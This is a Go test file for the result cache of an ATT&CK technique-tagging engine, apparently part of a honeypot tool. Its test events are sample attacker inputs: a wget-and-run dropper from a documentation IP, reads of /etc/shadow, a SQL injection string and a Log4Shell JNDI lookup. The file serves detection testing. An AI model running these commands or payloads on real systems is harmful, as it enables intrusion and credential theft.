package ttp

import (
	"reflect"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/decnet-go/decnet/internal/attack"
	"github.com/decnet-go/decnet/internal/event"
)

// freshTags tags x with a new engine over the same rules: an empty memo,
// so the regexes run.
func freshTags(e *Engine, x event.Event) []Tag {
	return New(e.Rules(), e.opts).Tag(x)
}

func TestMemoSameAsFresh(t *testing.T) {
	long := "echo " + strings.Repeat("A", maxMemoText) + "; cat /etc/shadow" // too long to remember
	for _, tc := range []struct {
		name string
		x    event.Event
	}{
		{"dropper", cmd("cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; ./x.sh")},
		{"dropper again", cmd("cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; ./x.sh")},
		{"uname", cmd("uname -a")},
		{"cpuinfo", cmd("cat /proc/cpuinfo | grep name | wc -l")},
		{"uname again", cmd("uname -a")},
		{"no rule", cmd("ls")},
		{"no rule again", cmd("ls")},
		{"shadow", cmd("cat /etc/shadow")},
		{"shadow upper", cmd("CAT /ETC/SHADOW")},
		{"shadow again", cmd("cat /etc/shadow")},
		{"shadow on telnet", func() event.Event { x := cmd("cat /etc/shadow"); x.Service = "telnet"; return x }()},
		{"long", cmd(long)},
		{"long again", cmd(long)},
		{"empty", cmd("")},
		{"kelvin", cmd("XMRIG \u212a")},
		{"invalid utf-8", cmd("cat /etc/\xffshadow")},
		{"invalid utf-8 again", cmd("cat /etc/\xffshadow")},
		// Same text, different service: the services filter is in the answer.
		{"ssh login", login("ssh", "root", "p", "success")},
		{"rdp login", login("rdp", "root", "p", "success")},
		{"ssh login again", login("ssh", "root", "p", "success")},
		{"sqli", req("GET", "/item?id=1' OR '1'='1", "sqlmap/1.7", "")},
		{"log4j ua", req("GET", "/", "${jndi:ldap://203.0.113.5/a}", "")},
		{"sqli again", req("GET", "/item?id=1' OR '1'='1", "sqlmap/1.7", "")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := sharedEngine(t)
			got, want := e.Tag(tc.x), freshTags(e, tc.x)
			if !reflect.DeepEqual(got, want) {
				t.Errorf("memoised tags differ from fresh ones\n got  %+v\n want %+v", got, want)
			}
		})
	}
	// Every case above but the long one is remembered.
	if n := sharedEngine(t).rules.Load().memo.len(); n == 0 {
		t.Error("nothing remembered")
	}
}

var shared struct {
	once sync.Once
	e    *Engine
}

// sharedEngine is one engine for the cases of a table, so that the later
// cases meet the memo the earlier ones filled.
func sharedEngine(t *testing.T) *Engine {
	t.Helper()
	shared.once.Do(func() { shared.e = newTestEngine(t) })
	return shared.e
}

// TestMemoIsUsed: a remembered answer is what Tag returns; the regexes do
// not run again (here the planted answer says no regex rule fired).
func TestMemoIsUsed(t *testing.T) {
	e := newTestEngine(t)
	x := cmd("cat /etc/shadow")
	if len(e.Tag(x)) == 0 {
		t.Fatal("no tags")
	}
	c := e.rules.Load()
	c.memo.mu.Lock()
	if len(c.memo.m) != 1 {
		t.Fatalf("%d entries after one text", len(c.memo.m))
	}
	for k := range c.memo.m {
		c.memo.m[k] = nil
	}
	c.memo.mu.Unlock()
	if tags := e.Tag(x); len(tags) != 0 {
		t.Errorf("the memo was not consulted: %d tags", len(tags))
	}
}

func TestMemoDroppedOnReload(t *testing.T) {
	cat := attack.Default()
	rule := func(pattern string) *RuleSet {
		t.Helper()
		y := "rule_id: R9000\nrule_version: 1\nname: x\napplies_to: [command]\nmatch:\n  pattern: '" + pattern + "'\nemits:\n  - {tactic: TA0007, technique_id: T1082, confidence: 0.5}\n"
		rules, err := Parse("x.yaml", []byte(y), cat)
		if err != nil {
			t.Fatal(err)
		}
		return newRuleSet(rules)
	}
	e := New(rule("secret(sauce)?"), Options{})
	x := cmd("echo secretsauce")
	if tags := e.Tag(x); len(tags) != 1 || tags[0].Evidence["matched"] != "secretsauce" {
		t.Fatalf("before reload: %+v", tags)
	}
	// The same rule id at the same place, but another pattern: the old
	// answer (R9000 fires, matched "secretsauce") must not come back.
	e.Reload(rule("secret"))
	if n := e.rules.Load().memo.len(); n != 0 {
		t.Errorf("new rule set starts with %d remembered texts", n)
	}
	if tags := e.Tag(x); len(tags) != 1 || tags[0].Evidence["matched"] != "secret" {
		t.Errorf("after reload: %+v", tags)
	}
	e.Reload(rule("othersauce"))
	if tags := e.Tag(x); len(tags) != 0 {
		t.Errorf("after second reload: %+v", tags)
	}
}

func TestMemoBounded(t *testing.T) {
	e := newTestEngine(t)
	c := e.rules.Load()
	e.Tag(cmd("echo " + strings.Repeat("x", maxMemoText)))
	if n := c.memo.len(); n != 0 {
		t.Errorf("a text over %d bytes was remembered", maxMemoText)
	}
	for i := range 3 * maxMemoEntries {
		e.Tag(cmd("wget http://203.0.113.5/" + strconv.Itoa(i)))
		if n := c.memo.len(); n > maxMemoEntries {
			t.Fatalf("%d entries after %d unique texts, want at most %d", n, i+1, maxMemoEntries)
		}
	}
}

// TestMemoConcurrent tags the corpus from several goroutines while the
// rules are reloaded; run with -race.
func TestMemoConcurrent(t *testing.T) {
	e := newTestEngine(t)
	evs := make([]event.Event, len(corpus))
	want := make([][]Tag, len(corpus))
	for i, c := range corpus {
		evs[i] = cmd(c)
		want[i] = freshTags(e, evs[i])
	}
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Go(func() {
			for n := range 5 * len(evs) {
				i := (n + g) % len(evs)
				if got := e.Tag(evs[i]); !reflect.DeepEqual(got, want[i]) {
					t.Errorf("%q: got %+v, want %+v", corpus[i], got, want[i])
					return
				}
			}
		})
	}
	wg.Go(func() {
		for range 5 {
			e.Reload(e.Rules())
		}
	})
	wg.Wait()
}
